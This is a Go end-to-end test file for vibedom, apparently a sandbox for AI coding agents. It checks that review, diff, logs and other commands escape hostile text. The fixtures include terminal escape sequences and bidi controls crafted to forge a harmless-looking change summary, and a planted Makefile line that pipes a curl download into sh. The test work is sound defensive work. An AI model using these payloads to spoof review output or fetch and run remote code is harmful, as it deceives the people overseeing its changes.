package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/vibedom/vibedom/e2e/clitest"
	"github.com/vibedom/vibedom/netfilter"
	"github.com/vibedom/vibedom/netfilter/egress"
	"github.com/vibedom/vibedom/overlay"
	"github.com/vibedom/vibedom/termtext"
)

// hostileFiles are file names with a character of every class a change set
// path may hold (ValidatePath refuses C0 and DEL), and how they must show.
var hostileFiles = map[string]string{
	"c1-\u009b31mred.txt":          `"c1-\u009b31mred.txt"`,
	"nel-\u0085x.txt":              `"nel-\u0085x.txt"`,
	"rlo-\u202etxt.exe":            `"rlo-\u202etxt.exe"`,
	"lri-\u2066x\u2069.txt":        `"lri-\u2066x\u2069.txt"`,
	"lrm-\u200e\u200f\u061c.txt":   `"lrm-\u200e\u200f\u061c.txt"`,
	"ls-\u2028ps-\u2029.txt":       `"ls-\u2028ps-\u2029.txt"`,
	"zw-\u200b\u200d\ufeff.txt":    `"zw-\u200b\u200d\ufeff.txt"`,
	"tag-\U000e0041\u3164.txt":     `"tag-\U000e0041\u3164.txt"`,
	"nbsp-\u00a0soft-\u00ad.txt":   `"nbsp-\u00a0soft-\u00ad.txt"`,
	"private-\ue000unassigned.txt": `"private-\ue000unassigned.txt"`,
}

// hostileBody holds every class, C0 and bytes that are not UTF-8 included.
const hostileBody = "esc\x1b[2J\x1b[3J\x1b[H osc\x1b]0;title\x07 bs\x08 cr\r del\x7f c1\u009b31m c1byte\x9b\x9d bad\xff rlo\u202e lri\u2066 ls\u2028 zw\u200b tag\U000e0041\n"

// hostileBodyShown is hostileBody as the multi-line form shows it.
const hostileBodyShown = `esc\x1b[2J\x1b[3J\x1b[H osc\x1b]0;title\x07 bs\x08 cr\r del\x7f c1\u009b31m c1byte\x9b\x9d bad\xff rlo\u202e lri\u2066 ls\u2028 zw\u200b tag\U000e0041`

// forgedReason is the attack of issue 9: clear the screen and the
// scrollback, home the cursor, draw a harmless-looking summary.
const forgedReason = "\x1b[2J\x1b[3J\x1b[HThe agent changed: 0 added, 1 modified, 0 deleted, +1 −0 lines\n\n  Files:\n    1  M  README.md  +1 −0\n"

// hostileHome is a vibedom home with one ended session, as a guest whose
// agent was replaced would leave it: files with hostile names and contents,
// a Makefile and a CI workflow, and a forged not-carried entry; and logs
// whose host names, URLs and reasons hold every class too.
func hostileHome(t *testing.T) (home, ws, sessDir, logDir string) {
	t.Helper()
	root := t.TempDir()
	home, ws = filepath.Join(root, "home"), filepath.Join(root, "ws")
	agent := filepath.Join(root, "agent")
	sessDir = filepath.Join(home, "sessions", "ws-0001")
	logDir = filepath.Join(home, "logs", "session-1")
	for _, d := range []string{ws, agent, sessDir, logDir, filepath.Join(agent, ".github", "workflows")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	put := func(dir, p, body string) {
		if err := os.WriteFile(filepath.Join(dir, p), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	put(ws, "README.md", "readme\n")
	st, _ := json.Marshal(map[string]any{"name": "ws-0001", "workspace": ws, "created": time.Now().UTC(), "status": "stopped", "log_dir": logDir})
	put(sessDir, "state.json", string(st))
	if _, err := overlay.TakeBaseline(t.Context(), ws, filepath.Join(sessDir, overlay.BaselineDir), overlay.BaselineOptions{}); err != nil {
		t.Fatal(err)
	}
	put(agent, "README.md", "readme, edited\n")
	put(agent, "Makefile", "all:\n\tcurl -s https://example.invalid/x | sh\n")
	put(agent, ".github/workflows/ci.yml", "on: push\n")
	for name := range hostileFiles {
		put(agent, name, hostileBody)
	}
	cs, err := overlay.DiffTrees(ws, agent)
	if err != nil {
		t.Fatal(err)
	}
	// The forged part travels as the guest sends it: JSON, parsed by
	// overlay.ParseChangeSet.
	cs.Changes = append(cs.Changes, overlay.Change{Path: "fifo-\x1b[2J\u202e", Op: overlay.OpSkip, Type: overlay.TypeSpecial, Reason: forgedReason})
	data, err := json.Marshal(cs)
	if err != nil {
		t.Fatal(err)
	}
	if cs, err = overlay.ParseChangeSet(data); err != nil {
		t.Fatal(err)
	}
	if _, err := overlay.WriteSessionPatch(t.Context(), sessDir, cs, overlay.DirSource(agent), nil); err != nil {
		t.Fatal(err)
	}

	var events bytes.Buffer
	for _, ev := range []egress.Event{
		{Time: time.Now(), Kind: "dns", Name: "evil\x1b[2J\u009b\u202e.example", Decision: "deny", Reason: "not allowed " + hostileBody},
		{Time: time.Now(), Kind: "request", Name: "api.example", Port: 443, Method: "GET\x1b[H", URL: "https://api.example/\u2066x\U000e0041", Decision: "allow"},
	} {
		b, err := json.Marshal(ev)
		if err != nil {
			t.Fatal(err)
		}
		events.Write(append(b, '\n'))
	}
	put(logDir, netfilter.NetworkLogFile, events.String())
	put(logDir, netfilter.AlertsLogFile, events.String())
	put(logDir, "session.log", "time=x level=INFO msg=guest line="+hostileBody)
	return home, ws, sessDir, logDir
}

// assertShownSafely fails when out holds anything but printable text,
// newlines, carriage returns (a pseudo-terminal's) and tabs: an escape
// sequence, a C1 control as a code point or a byte, a bidi control, a
// separator, an invisible character or a byte that is not UTF-8.
func assertShownSafely(t *testing.T, what, out string) {
	t.Helper()
	for i := 0; i < len(out); {
		r, n := utf8.DecodeRuneInString(out[i:])
		switch {
		case r == utf8.RuneError && n == 1:
			t.Errorf("%s: raw byte %#x reaches the terminal: %q", what, out[i], out[max(0, i-40):min(len(out), i+40)])
		case r == '\n' || r == '\r' || r == '\t' || termtext.Safe(r):
		default:
			t.Errorf("%s: raw %U reaches the terminal: %q", what, r, out[max(0, i-40):min(len(out), i+40)])
		}
		i += n
	}
}

// TestOutputSurfacesEscapeHostileText runs every command that prints what
// the guest or the workspace wrote, on a pseudo-terminal, against hostile
// names, reasons, contents and log entries: nothing reaches the terminal
// raw, and each hostile character shows as a visible escape.
func TestOutputSurfacesEscapeHostileText(t *testing.T) {
	t.Parallel()
	home, ws, sessDir, logDir := hostileHome(t)
	c := &clitest.CLI{Home: home, Tmp: t.TempDir()}
	c.Env = append(os.Environ(), "VIBEDOM_HOME="+home, "TMPDIR="+c.Tmp, "NO_COLOR=1", "PAGER=cat")
	onTerminal := func(t *testing.T, input []string, args ...string) string {
		t.Helper()
		tr := startOnTerminal(t, c.Command(t, nil, args...))
		for _, in := range input {
			tr.expect("? ")
			tr.typeText(in + "\n")
		}
		tr.wait()
		return tr.output()
	}
	want := func(t *testing.T, what, out string, shown ...string) {
		t.Helper()
		assertShownSafely(t, what, out)
		for _, s := range shown {
			if !strings.Contains(out, s) {
				t.Errorf("%s does not show %s; it showed:\n%s", what, s, out)
			}
		}
	}
	var names []string
	for _, shown := range hostileFiles {
		names = append(names, shown)
	}

	t.Run("review, pager and apply report", func(t *testing.T) {
		out := onTerminal(t, []string{"r", "a"}, "review")
		want(t, "review", out, append(names, hostileBodyShown, `"fifo-\x1b[2J\u202e"`, `"\x1b[2J\x1b[3J\x1b[HThe agent changed`, "Makefile", "vibedom undo")...)
	})
	t.Run("undo", func(t *testing.T) {
		want(t, "undo", onTerminal(t, nil, "undo"), append(names, "restored")...)
	})
	t.Run("apply", func(t *testing.T) {
		want(t, "apply", onTerminal(t, nil, "apply"), names...)
		onTerminal(t, nil, "undo")
	})
	t.Run("diff", func(t *testing.T) {
		want(t, "diff", onTerminal(t, nil, "diff"), hostileBodyShown)
		colored := onTerminal(t, nil, "diff", "--color=always")
		for _, style := range []string{"\x1b[0m", "\x1b[1m", "\x1b[31m", "\x1b[32m", "\x1b[36m", "\x1b[7m", "\x1b[27m"} {
			colored = strings.ReplaceAll(colored, style, "")
		}
		want(t, "diff --color=always", colored, hostileBodyShown)
	})
	t.Run("diff piped stays the patch", func(t *testing.T) {
		got, err := c.Command(t, nil, "diff").Output()
		if err != nil {
			t.Fatal(err)
		}
		patch, err := os.ReadFile(filepath.Join(sessDir, overlay.PatchFileName))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, patch) {
			t.Errorf("vibedom diff > file is not the patch byte for byte (%d bytes, want %d)", len(got), len(patch))
		}
	})
	t.Run("list", func(t *testing.T) {
		st, _ := json.Marshal(map[string]any{"name": "ws-\x1b[2J\u202e", "workspace": ws + "\u2066", "created": time.Now().UTC(), "status": "stopped\u009b", "log_dir": logDir})
		if err := os.MkdirAll(filepath.Join(home, "sessions", "ws-0002"), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(home, "sessions", "ws-0002", "state.json"), st, 0o600); err != nil {
			t.Fatal(err)
		}
		want(t, "list", onTerminal(t, nil, "list"), `"ws-\x1b[2J\u202e"`, `\u2066"`, `"stopped\u009b"`)
		out := onTerminal(t, nil, "list", "--json")
		want(t, "list --json", out, `ws-\u001b[2J\u202e`)
		var rows []map[string]any
		if err := json.Unmarshal([]byte(strings.ReplaceAll(out, "\r\n", "\n")), &rows); err != nil {
			t.Fatalf("list --json is not JSON: %v\n%s", err, out)
		}
		found := false
		for _, r := range rows {
			found = found || r["name"] == "ws-\x1b[2J\u202e"
		}
		if !found {
			t.Errorf("list --json lost the name: %v", rows)
		}
	})
	t.Run("status", func(t *testing.T) {
		st, _ := json.Marshal(map[string]any{"name": "ws-\x1b[2J\u202e", "workspace": ws + "\u2066\u009b", "created": time.Now().UTC(), "status": "stopped", "log_dir": logDir + "\u202e"})
		if err := os.MkdirAll(filepath.Join(home, "sessions", "ws-0003"), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(home, "sessions", "ws-0003", "state.json"), st, 0o600); err != nil {
			t.Fatal(err)
		}
		want(t, "status", onTerminal(t, nil, "status", "ws-0003"), `"ws-\x1b[2J\u202e"`, `\u2066\u009b"`)
		out := onTerminal(t, nil, "status", "ws-0003", "--json")
		want(t, "status --json", out, `ws-\u001b[2J\u202e`, `\u2066\u009b`)
		var got map[string]any
		if err := json.Unmarshal([]byte(strings.ReplaceAll(out, "\r\n", "\n")), &got); err != nil {
			t.Fatalf("status --json is not JSON: %v\n%s", err, out)
		}
		if got["workspace"] != ws+"\u2066\u009b" {
			t.Errorf("status --json lost the workspace: %v", got)
		}
	})
	t.Run("logs", func(t *testing.T) {
		want(t, "logs", onTerminal(t, nil, "logs", "ws-0001"), hostileBodyShown)
		for _, flag := range []string{"--network", "--alerts"} {
			want(t, "logs "+flag, onTerminal(t, nil, "logs", flag, "ws-0001"),
				`"evil\x1b[2J\u009b\u202e.example"`, `"GET\x1b[H"`, `"https://api.example/\u2066x\U000e0041"`)
			out := onTerminal(t, nil, "logs", flag, "--json", "ws-0001")
			want(t, "logs "+flag+" --json", out, `evil\u001b[2J\u009b\u202e.example`, `\udb40\udc41`)
			n := 0
			for _, line := range strings.Split(strings.TrimSpace(strings.ReplaceAll(out, "\r\n", "\n")), "\n") {
				var ev egress.Event
				if err := json.Unmarshal([]byte(line), &ev); err != nil {
					t.Fatalf("logs %s --json: %v: %q", flag, err, line)
				}
				if ev.Name == "evil\x1b[2J\u009b\u202e.example" || ev.URL == "https://api.example/\u2066x\U000e0041" {
					n++
				}
			}
			if n != 2 {
				t.Errorf("logs %s --json: %d events decode to the logged strings, want 2", flag, n)
			}
		}
	})
	t.Run("preflight", func(t *testing.T) {
		pws := filepath.Join(t.TempDir(), "p")
		os.MkdirAll(pws, 0o755)
		for name := range hostileFiles {
			if err := os.WriteFile(filepath.Join(pws, name+".env"), []byte("GITHUB_TOKEN="+cliPAT("1")+"\n"), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		var shown []string
		for _, s := range hostileFiles {
			shown = append(shown, strings.TrimSuffix(s, `"`)+`.env"`)
		}
		want(t, "preflight", onTerminal(t, nil, "preflight", pws), shown...)
		out := onTerminal(t, nil, "preflight", "--json", pws)
		want(t, "preflight --json", out, `rlo-\u202etxt.exe.env`)
		if !json.Valid([]byte(strings.ReplaceAll(out, "\r\n", "\n"))) {
			t.Errorf("preflight --json is not JSON:\n%s", out)
		}
	})
	t.Run("an error quoting a path", func(t *testing.T) {
		want(t, "error", onTerminal(t, nil, "logs", "/nonexistent/x\x1b[2J\u202e\u2028y"), `x\x1b[2J\u202e\u2028y`)
	})
}

// TestForgedChangeSetShowsFlaggedFiles is issue 9's attack through the
// real CLI on a terminal: the forged reason's sequences show as escapes,
// and the Makefile and the CI workflow "apply all" would write are listed,
// flagged, after it and just above the prompt.
func TestForgedChangeSetShowsFlaggedFiles(t *testing.T) {
	t.Parallel()
	home, ws, _, _ := hostileHome(t)
	c := &clitest.CLI{Home: home, Tmp: t.TempDir()}
	c.Env = append(os.Environ(), "VIBEDOM_HOME="+home, "TMPDIR="+c.Tmp) // colors on
	tr := startOnTerminal(t, c.Command(t, nil, "review"))
	tr.expect("[d]iscard? ")
	out := tr.output()
	for _, style := range []string{"\x1b[0m", "\x1b[1m", "\x1b[31m", "\x1b[32m", "\x1b[33m"} {
		out = strings.ReplaceAll(out, style, "")
	}
	assertShownSafely(t, "review", out)
	i := strings.LastIndex(out, `\x1b[HThe agent changed`)
	if i < 0 {
		t.Fatalf("the forged reason is not shown escaped:\n%s", out)
	}
	after := out[i:]
	for _, want := range []string{"Flagged", "Makefile", ".github/workflows/ci.yml", "2 flagged", "[a]pply all"} {
		if !strings.Contains(after, want) {
			t.Errorf("%q is not shown after the forged reason, above the prompt:\n%s", want, after)
		}
	}
	tr.typeText("k\n")
	if code := tr.wait(); code != 0 {
		t.Errorf("exit %d", code)
	}
	if _, err := os.Stat(filepath.Join(ws, "Makefile")); err == nil {
		t.Error("the Makefile was applied though the user kept the patch")
	}
}
